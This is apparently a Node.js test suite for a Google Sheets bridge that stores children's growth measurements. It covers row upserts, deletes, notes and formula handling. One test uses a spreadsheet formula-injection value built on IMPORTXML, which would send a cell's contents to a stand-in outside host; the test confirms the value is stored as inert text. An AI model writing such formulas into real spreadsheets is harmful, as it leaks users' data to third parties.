/** upsert_rows and delete_rows of the Sheet bridge (src/Code.js), on fake tabs with a header row. */
'use strict';

const assert = require('node:assert/strict');
const { test } = require('node:test');

const { makeFakes, loadGas, callAction, SPREADSHEET_ID } = require('./harness');

const SECRET = 'rows-test-secret-0123456789';
const COLUMNS = ['tumbuh_id', 'nama', 'bb_kg'];

function setup() {
  // Pengukuran: Tumbuh's columns, then a formula column Tumbuh never writes.
  const fakes = makeFakes({ secret: SECRET, tabs: { Pengukuran: [...COLUMNS, 'status'] } });
  return { fakes, gas: loadGas(fakes), sheet: fakes.sheets.Pengukuran };
}

/** One action on the test spreadsheet (every payload names its spreadsheet). */
function call(gas, action, payload) {
  return callAction(gas, SECRET, action, { spreadsheet_id: SPREADSHEET_ID, ...payload });
}

test('rows are appended, then updated by their key: a retried batch never duplicates', () => {
  const { gas, sheet, fakes } = setup();
  const batch = { tab: 'Pengukuran', columns: COLUMNS, rows: [['m1', 'Ani', 8.2], ['m2', 'Budi', 9.1]] };

  assert.deepEqual(call(gas, 'upsert_rows', batch), { ok: true, result: { updated: 0, appended: 2 } });
  assert.deepEqual(call(gas, 'upsert_rows', batch), { ok: true, result: { updated: 2, appended: 0 } });
  call(gas, 'upsert_rows', { ...batch, rows: [['m2', 'Budi', 9.3], ['m3', 'Citra', 7.0]] });

  assert.deepEqual(sheet.data.slice(1).map((r) => r.slice(0, 3)),
    [['m1', 'Ani', 8.2], ['m2', 'Budi', 9.3], ['m3', 'Citra', 7.0]]);
  assert.equal(fakes.locks.waits, fakes.locks.releases); // every write under the script lock, released
});

test('the formula column to the right is never written', () => {
  const { gas, sheet } = setup();
  sheet.data.push(['m1', 'Ani', 8.2, '=STATUS(C2)'], ['', '', '', '=STATUS(C3)']);

  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS, rows: [['m1', 'Ani', 8.4], ['m2', 'Budi', 9]] });

  assert.deepEqual(sheet.data.slice(1), [['m1', 'Ani', 8.4, '=STATUS(C2)'], ['m2', 'Budi', 9, '=STATUS(C3)']]);
});

test('a key twice in one batch is appended once, the later row winning', () => {
  const { gas, sheet } = setup();

  const reply = call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS,
    rows: [['m1', 'Ani', 8.2], ['m1', 'Ani', 8.3]] });

  assert.deepEqual(reply.result, { updated: 0, appended: 1 });
  assert.deepEqual(sheet.data.slice(1), [['m1', 'Ani', 8.3]]);
});

test('delete_rows removes the rows with those keys and leaves the others', () => {
  const { gas, sheet } = setup();
  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS,
    rows: [['m1', 'Ani', 8.2], ['m2', 'Budi', 9.1], ['m3', 'Ani', 8.5]] });

  const reply = call(gas, 'delete_rows', { tab: 'Pengukuran', columns: ['tumbuh_id'], keys: ['m1', 'm3', 'm9'] });

  assert.deepEqual(reply, { ok: true, result: { deleted: 2 } });
  assert.deepEqual(sheet.data.slice(1), [['m2', 'Budi', 9.1]]);
});

test('a layout that differs from the Sheet, an unknown tab or a row without its key writes nothing', () => {
  const { gas, sheet } = setup();
  const cases = [
    [{ tab: 'Pengukuran', columns: ['nama', 'tumbuh_id', 'bb_kg'], rows: [['Ani', 'm1', 8]] }, 'bad_layout'],
    [{ tab: 'Anak', columns: COLUMNS, rows: [['m1', 'Ani', 8]] }, 'bad_unknown_tab'],
    [{ tab: 'Pengukuran', columns: COLUMNS, rows: [['', 'Ani', 8]] }, 'bad_rows'],
    [{ tab: 'Pengukuran', columns: COLUMNS, rows: [['m1', 'Ani']] }, 'bad_rows'],
    [{ columns: COLUMNS, rows: [] }, 'bad_tab'],
  ];
  for (const [payload, error] of cases) {
    assert.deepEqual(call(gas, 'upsert_rows', payload), { ok: false, error });
  }
  assert.deepEqual(sheet.data, [[...COLUMNS, 'status']]);
});

/** A tab as setup leaves it: header, and the formula column filled for rows 2..1+prefill. */
function withFormulas(prefill, formula = '=STATUS(C{r})') {
  const ctx = setup();
  for (let r = 2; r <= 1 + prefill; r++) ctx.sheet.put(r, 4, formula.split('{r}').join(String(r)));
  return ctx;
}

test('an append goes below a row a kader typed (empty key), never over it', () => {
  const { gas, sheet } = setup();
  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS, rows: [['m1', 'Ani', 8.2]] });
  sheet.put(3, 2, 'Budi'); sheet.put(3, 3, 9.1); // typed by a kader: Tumbuh has not taken it yet

  const reply = call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS, rows: [['m2', 'Citra', 7.0]] });

  assert.deepEqual(reply.result, { updated: 0, appended: 1 });
  assert.deepEqual(sheet.dump().slice(1), [['m1', 'Ani', 8.2], ['', 'Budi', 9.1], ['m2', 'Citra', 7.0]]);
});

test('appended rows past the formula-filled ones get row 2\'s formulas, re-anchored, in one write', () => {
  const { gas, sheet, fakes } = withFormulas(2, '=STATUS(C{r})+$C$2');

  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS,
    rows: [['m1', 'Ani', 8], ['m2', 'Budi', 9], ['m3', 'Citra', 7], ['m4', 'Dewi', 6]] });

  assert.deepEqual(sheet.dump().slice(1).map((r) => r[3]),
    ['=STATUS(C2)+$C$2', '=STATUS(C3)+$C$2', '=STATUS(C4)+$C$2', '=STATUS(C5)+$C$2']);
  assert.deepEqual(fakes.world.calls.filter((c) => c.op === 'setFormulasR1C1').map((c) => c.a1), ['D4:D5']);
});

test('appends within the formula-filled rows write no formula', () => {
  const { gas, fakes } = withFormulas(5);

  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS, rows: [['m1', 'Ani', 8], ['m2', 'Budi', 9]] });

  assert.equal(fakes.world.calls.filter((c) => /^setFormulas/.test(c.op)).length, 0);
});

test('kader rows typed past the formula-filled ones get formulas too, with the appended rows, in one write', () => {
  const { gas, sheet, fakes } = withFormulas(1);
  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS, rows: [['m1', 'Ani', 8]] });
  sheet.put(3, 2, 'Budi'); // a kader's row at row 3, beyond row 2's formula

  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS, rows: [['m2', 'Citra', 7]] });

  assert.deepEqual(sheet.dump().slice(1).map((r) => r[3]), ['=STATUS(C2)', '=STATUS(C3)', '=STATUS(C4)']);
  assert.deepEqual(fakes.world.calls.filter((c) => c.op === 'setFormulasR1C1').map((c) => c.a1), ['D3:D4']);
});

test('appends past the end of the grid grow it instead of failing', () => {
  const { gas, sheet } = setup();
  sheet.maxRows = 3;

  const reply = call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS,
    rows: [['m1', 'Ani', 8], ['m2', 'Budi', 9], ['m3', 'Citra', 7], ['m4', 'Dewi', 6]] });

  assert.deepEqual(reply.result, { updated: 0, appended: 4 });
  assert.equal(sheet.getMaxRows(), 5);
});

test('a value that starts with "=" is written as text, never as a formula', () => {
  const { gas, sheet } = setup();
  const name = '=IMPORTXML("http://x.test/"&B2,"//a")';

  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS, rows: [['m1', name, 8]] });

  assert.deepEqual(sheet.getRange(2, 2).getFormulas(), [['']]);
  assert.equal(sheet.getRange(2, 2).getValue(), name);
});

test('a kader\'s "=..." text in a row rewritten with its neighbours stays text', () => {
  const { gas, sheet } = setup();
  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS, rows: [['m1', 'Ani', 8], ['m2', '=1+1', 9], ['m3', 'Citra', 7]] });

  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS, rows: [['m1', 'Ani', 8.1], ['m3', 'Citra', 7.1]] });

  assert.deepEqual(sheet.getRange(3, 2).getFormulas(), [['']]);
  assert.equal(sheet.getRange(3, 2).getValue(), '=1+1');
});

test('an update rewrites only the span of updated rows, not rows above or below it', () => {
  const { gas, fakes } = setup();
  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS,
    rows: [['m1', 'Ani', 8], ['m2', 'Budi', 9], ['m3', 'Citra', 7], ['m4', 'Dewi', 6]] });
  const from = fakes.world.calls.length;

  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS, rows: [['m3', 'Citra', 7.5], ['m2', 'Budi', 9.5]] });

  assert.deepEqual(fakes.world.calls.slice(from).filter((c) => c.op === 'setValues').map((c) => c.a1), ['A3:C4']);
});

test('every action on a spreadsheet the script cannot open is bad_spreadsheet, and writes nothing', () => {
  const { gas, fakes } = setup();
  const missing = 'no-such-spreadsheet-0123456789abcdefghijklm';
  const payloads = {
    upsert_rows: { tab: 'Pengukuran', columns: COLUMNS, rows: [['m1', 'Ani', 8]] },
    delete_rows: { tab: 'Pengukuran', columns: ['tumbuh_id'], keys: ['m1'] },
    read_rows: { tab: 'Pengukuran', columns: COLUMNS },
    set_notes: { tab: 'Pengukuran', columns: COLUMNS, notes: [{ key: 'm1', column: 'nama', text: 'x' }] },
    write_tab: { tab: 'Rekap', headers: ['Bulan'], rows: [['2025-01']] },
  };

  for (const [action, payload] of Object.entries(payloads)) {
    for (const id of [missing, undefined, 'short']) {
      const reply = callAction(gas, SECRET, action, { ...payload, spreadsheet_id: id });
      assert.deepEqual(reply, { ok: false, error: 'bad_spreadsheet' }, `${action} ${id}`);
    }
  }
  assert.deepEqual(fakes.world.calls, []);
});

test('delete_rows deletes each run of adjacent rows in one call', () => {
  const { gas, fakes, sheet } = setup();
  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS,
    rows: [['m1', 'A', 1], ['m2', 'B', 2], ['m3', 'C', 3], ['m4', 'D', 4], ['m5', 'E', 5]] });

  const reply = call(gas, 'delete_rows', { tab: 'Pengukuran', columns: ['tumbuh_id'], keys: ['m2', 'm3', 'm5'] });

  assert.deepEqual(reply.result, { deleted: 3 });
  assert.deepEqual(fakes.world.calls.filter((c) => c.op === 'deleteRows').map((c) => c.a1), ['6:6', '3:4']);
  assert.deepEqual(sheet.dump().slice(1).map((r) => r[0]), ['m1', 'm4']);
});

test('deleting every row of a tab whose grid holds nothing else still works (Sheets keeps one spare row)', () => {
  const { gas, sheet } = setup();
  sheet.setFrozenRows(1);
  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS, rows: [['m1', 'A', 1], ['m2', 'B', 2]] });
  sheet.maxRows = 3;

  const reply = call(gas, 'delete_rows', { tab: 'Pengukuran', columns: ['tumbuh_id'], keys: ['m1', 'm2'] });

  assert.deepEqual(reply.result, { deleted: 2 });
  assert.deepEqual(sheet.dump(), [[...COLUMNS, 'status']]);
});

test('read_rows gives each non-empty row with its sheet row number, kader rows included, dates as yyyy-mm-dd', () => {
  const { gas, sheet, fakes } = setup();
  fakes.spreadsheet.setSpreadsheetTimeZone('Asia/Jayapura'); // UTC+9: a date formatted in UTC would be the day before
  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: COLUMNS, rows: [['m1', 'Ani', '2024-05-01']] });
  sheet.put(4, 2, 'Budi'); sheet.put(4, 3, 9.25); // row 3 left empty, row 4 typed by a kader

  const reply = call(gas, 'read_rows', { tab: 'Pengukuran', columns: COLUMNS });

  assert.ok(Object.prototype.toString.call(sheet.cell(2, 3)) === '[object Date]', 'the fake stored a date');
  assert.deepEqual(reply, { ok: true, result: { rows: [
    { row: 2, values: ['m1', 'Ani', '2024-05-01'] },
    { row: 4, values: ['', 'Budi', 9.25] },
  ] } });
});

test('read_rows checks the header like upsert_rows does', () => {
  const { gas } = setup();

  assert.deepEqual(call(gas, 'read_rows', { tab: 'Pengukuran', columns: ['nama'] }), { ok: false, error: 'bad_layout' });
  assert.deepEqual(call(gas, 'read_rows', { tab: 'Anak', columns: COLUMNS }), { ok: false, error: 'bad_unknown_tab' });
});

const NOTE_COLUMNS = ['tumbuh_id', 'nama', 'bb_kg', 'Catatan Tumbuh'];

function notesSetup() {
  const fakes = makeFakes({ secret: SECRET, tabs: { Pengukuran: NOTE_COLUMNS } });
  const gas = loadGas(fakes);
  const sheet = fakes.sheets.Pengukuran;
  call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: NOTE_COLUMNS, rows: [['m1', 'Ani', 8.2, ''], ['m2', 'Budi', 9.1, '']] });
  sheet.put(4, 2, 'Citra'); sheet.put(4, 3, 77); // a kader's row, with a weight Tumbuh will refuse
  return { fakes, gas, sheet };
}

function notes(gas, list) {
  return call(gas, 'set_notes', { tab: 'Pengukuran', columns: NOTE_COLUMNS, notes: list });
}

test('set_notes writes a note by key or by row and paints the row red, or clears the red', () => {
  const { gas, sheet } = notesSetup();

  const reply = notes(gas, [
    { row: 4, column: 'Catatan Tumbuh', text: 'BB 77 kg tidak mungkin', bad: true },
    { key: 'm1', column: 'Catatan Tumbuh', text: 'ok', bad: true },
  ]);
  notes(gas, [{ key: 'm1', column: 'Catatan Tumbuh', text: '', bad: false }]);

  assert.deepEqual(reply.result, { written: 2, skipped: [] });
  assert.deepEqual(sheet.dump().slice(1).map((r) => r[3]), ['', '', 'BB 77 kg tidak mungkin']);
  assert.deepEqual(sheet.getRange(4, 1, 1, 5).getBackgrounds(), [['#f4cccc', '#f4cccc', '#f4cccc', '#f4cccc', '#ffffff']]);
  assert.deepEqual(sheet.getRange(2, 1, 1, 4).getBackgrounds(), [['#ffffff', '#ffffff', '#ffffff', '#ffffff']]);
});

test('set_notes skips an unknown key or row and says so', () => {
  const { gas } = notesSetup();

  const reply = notes(gas, [{ key: 'm9', column: 'Catatan Tumbuh', text: 'x' }, { row: 40, column: 'Catatan Tumbuh', text: 'x' }]);

  assert.deepEqual(reply.result, { written: 0, skipped: ['key m9 not found', 'row 40 not found'] });
});

test('Tumbuh takes a kader row by writing its id into the empty key, only while the row is as it was read', () => {
  const { gas, sheet } = notesSetup();
  const read = call(gas, 'read_rows', { tab: 'Pengukuran', columns: NOTE_COLUMNS }).result.rows.find((r) => r.row === 4);

  const taken = notes(gas, [{ row: 4, column: 'tumbuh_id', text: 'm3', expect: read.values, bad: false }]);
  const retried = notes(gas, [{ row: 4, column: 'tumbuh_id', text: 'm3', expect: read.values }]);

  assert.deepEqual(taken.result, { written: 1, skipped: [] });
  assert.deepEqual(retried.result, { written: 1, skipped: [] }, 'a retry of the same take is no conflict');
  assert.deepEqual(sheet.dump()[3], ['m3', 'Citra', 77]);
  assert.deepEqual(call(gas, 'upsert_rows', { tab: 'Pengukuran', columns: NOTE_COLUMNS, rows: [['m3', 'Citra', 7.7, '']] }).result,
    { updated: 1, appended: 0 }, 'the taken row is now updated by its key');
});

test('a kader row changed since Tumbuh read it, or taken by another id, is not taken', () => {
  const { gas, sheet } = notesSetup();
  const read = call(gas, 'read_rows', { tab: 'Pengukuran', columns: NOTE_COLUMNS }).result.rows.find((r) => r.row === 4);
  sheet.put(4, 3, 7.7); // the kader corrected the weight in the meantime

  const changed = notes(gas, [{ row: 4, column: 'tumbuh_id', text: 'm3', expect: read.values }]);
  sheet.put(4, 3, 77);
  sheet.put(4, 1, 'm8');
  const taken = notes(gas, [{ row: 4, column: 'tumbuh_id', text: 'm3', expect: read.values }]);

  assert.deepEqual([changed.result, taken.result], [{ written: 0, skipped: ['row 4 changed'] }, { written: 0, skipped: ['row 4 changed'] }]);
  assert.equal(sheet.dump()[3][0], 'm8');
});

test('a note by row with a prefix of the row as expected is skipped when the row no longer starts that way', () => {
  const { gas, sheet } = notesSetup();

  const kept = notes(gas, [{ row: 4, column: 'Catatan Tumbuh', text: 'BB tidak mungkin', expect: ['', 'Citra'], bad: true }]);
  sheet.put(4, 2, 'Citra Dewi');
  const moved = notes(gas, [{ row: 4, column: 'Catatan Tumbuh', text: 'lagi', expect: ['', 'Citra'], bad: true }]);

  assert.deepEqual([kept.result, moved.result], [{ written: 1, skipped: [] }, { written: 0, skipped: ['row 4 changed'] }]);
  assert.equal(sheet.dump()[3][3], 'BB tidak mungkin');
});

test('a numeric id takes a row as well as a text one, with a prefix of the row as expected', () => {
  const { gas, sheet } = notesSetup();

  const reply = notes(gas, [{ row: 4, column: 'tumbuh_id', text: 4711, expect: ['', 'Citra', 77] }]);

  assert.deepEqual(reply.result, { written: 1, skipped: [] });
  assert.equal(sheet.dump()[3][0], 4711);
});

test('set_notes refuses what it cannot do safely: unknown columns, a key taken without expect or by key', () => {
  const { gas, sheet } = notesSetup();
  const before = sheet.dump();
  const bad = [
    [{ key: 'm1', column: 'status', text: 'x' }],
    [{ row: 4, column: 'tumbuh_id', text: 'm3' }],
    [{ row: 4, column: 'tumbuh_id', text: 'm3', expect: [''] }], // only the key cell: nothing checked
    [{ row: 4, column: 'tumbuh_id', text: '', expect: ['', 'Citra'] }],
    [{ key: 'm1', column: 'tumbuh_id', text: 'm3', expect: ['m1', 'Ani', 8.2, ''] }],
    [{ key: 'm1', row: 2, column: 'nama', text: 'x' }],
    [{ row: 1, column: 'nama', text: 'x' }],
    [{ key: 'm1', column: 'nama', text: 'x', bad: 'yes' }],
  ];

  for (const list of bad) assert.deepEqual(notes(gas, list), { ok: false, error: 'bad_notes' }, JSON.stringify(list));
  assert.deepEqual(sheet.dump(), before);
});

test('write_tab creates a Tumbuh-owned tab with its header and replaces its content in one write', () => {
  const { gas, fakes } = setup();
  const headers = ['Bulan', 'Ditimbang', 'Pendek'];

  const first = call(gas, 'write_tab', { tab: 'Rekap', headers, rows: [['2025-01', 40, 3], ['2025-02', 42, 2], ['2025-03', 39, 2]] });
  const from = fakes.world.calls.length;
  const second = call(gas, 'write_tab', { tab: 'Rekap', headers, rows: [['2025-04', 41, 1]] });

  assert.deepEqual([first.result, second.result], [{ rows: 3, cleared: 0 }, { rows: 1, cleared: 2 }]);
  assert.deepEqual(fakes.spreadsheet.getSheetByName('Rekap').dump().filter((r) => r.some((v) => v !== '')),
    [headers, ['2025-04', 41, 1]]);
  assert.deepEqual(fakes.world.calls.slice(from).filter((c) => c.op === 'setValues').map((c) => c.a1), ['A2:C4']);
});

test('write_tab refuses a different header, rows of the wrong width, and the tabs kaders edit', () => {
  const { gas, sheet } = setup();
  call(gas, 'write_tab', { tab: 'Rekap', headers: ['Bulan'], rows: [] });

  assert.deepEqual(call(gas, 'write_tab', { tab: 'Rekap', headers: ['Bulan', 'Lain'], rows: [] }), { ok: false, error: 'bad_layout' });
  assert.deepEqual(call(gas, 'write_tab', { tab: 'Rekap', headers: ['Bulan'], rows: [['a', 'b']] }), { ok: false, error: 'bad_rows' });
  assert.deepEqual(call(gas, 'write_tab', { tab: 'Pengukuran', headers: [...COLUMNS, 'status'], rows: [] }), { ok: false, error: 'bad_tab' });
  assert.deepEqual(sheet.dump(), [[...COLUMNS, 'status']]);
});
